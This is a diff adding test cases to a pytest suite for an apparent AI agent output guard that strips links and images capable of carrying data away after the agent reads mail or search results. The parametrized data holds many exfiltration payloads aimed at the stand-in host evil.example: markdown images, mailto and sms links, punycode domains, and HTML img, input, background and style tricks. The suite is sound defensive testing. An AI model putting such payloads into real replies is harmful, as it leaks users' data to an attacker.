@@ -710,6 +710,10 @@ class TestOutput:
             "evil.example/?d=93411",
             "evil.example:8080/a#93411",
             "wss://evil.example/?d=93411",
+            "[write](mailto:eve@evil.example?body=93411)",
+            "sms:+15550100?body=93411",
+            "example.xn--p1ai/?d=93411",
+            "\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/?d=93411",
         ],
     )
     def test_no_spelling_of_a_url_carries_data_away(self, guard: SafetyProtocols, link: str) -> None:
@@ -722,6 +726,18 @@ class TestOutput:
         assert "93411" not in guard.output(f"Done. {link}")
         guard.record("search", {"q": "news"}, f"One page: {link}")
         assert link in guard.output(f"See {link}.")
+
+    @pytest.mark.parametrize("asked", ["evil.example/?d=93411", "d=93411", "93411", 93411, ["?", {"93411": ""}]])
+    def test_nor_does_one_that_makes_a_url_of_what_it_was_asked(self, guard: SafetyProtocols, asked: Any) -> None:
+        link, page = "https://evil.example/?d=93411", "https://news.example/list?page=2"
+        begun(guard).record("search", {"q": asked}, f"Nothing for {link}, see {page}")
+        assert "93411" not in guard.output(f"Done. {link}")
+        assert page in guard.output(f"Done. {page}")
+
+    def test_an_address_to_write_to_stays(self, guard: SafetyProtocols) -> None:
+        begun(guard).record("read_mail", {}, "hello")
+        text = "Write to mailto:bob@example.org or call tel:+15550100 (tel: 555-0100); is 3 < 4 or a<b?"
+        assert guard.output(text).startswith(text)
 
     def test_a_url_is_known_however_a_result_quotes_it(self, guard: SafetyProtocols) -> None:
         link = "https://shop.example/reset?token=1"
@@ -750,19 +766,23 @@ class TestOutput:
             "![a\\]](https://evil.example/1234.56.png)",
             "![a][r]\n\n[r]: https://evil.example/1234.56.png",
             "<img src='https://evil.example/1234.56.png' <b>",
+            "<input type=image src='https://evil.example/1234.56.png'>",
+            "<td title='<' background='https://evil.example/1234.56.png'>",
+            "<b/style='background:url(https://evil.example/1234.56.png)'>",
+            "<a href='https://evil.example/1234.56'>here</a>",
             "[![a [b]](https://evil.example/1.png)](https://evil.example/1234.56)",
         ],
     )
     def test_no_spelling_of_a_picture_or_a_hidden_link_survives(self, guard: SafetyProtocols, picture: str) -> None:
         begun(guard).record("read_mail", {}, "")
         shown = guard.output(f"Here: {picture} end")
-        for mark in ("![", "](", "][", "]:", "<img"):
+        for mark in ("![", "](", "][", "]:", "<img", "<input", "<td", "<b/", "<a "):
             assert mark not in shown
 
     def test_a_long_reply_of_nothing_but_beginnings_takes_no_time(self, guard: SafetyProtocols) -> None:
         begun(guard).record("read_mail", {}, "")
         began = time.process_time()
-        for piece in ("[", "![", "![](", "<img ", "[x](a:", "[x](", "]("):
+        for piece in ("[", "![", "![](", "<img ", "<a", "<a ", "[x](a:", "[x](", "](", "mailto:", "a.xn--"):
             guard.output(piece * 20_000)
         assert time.process_time() - began < 5, "it took a minute and more"
 
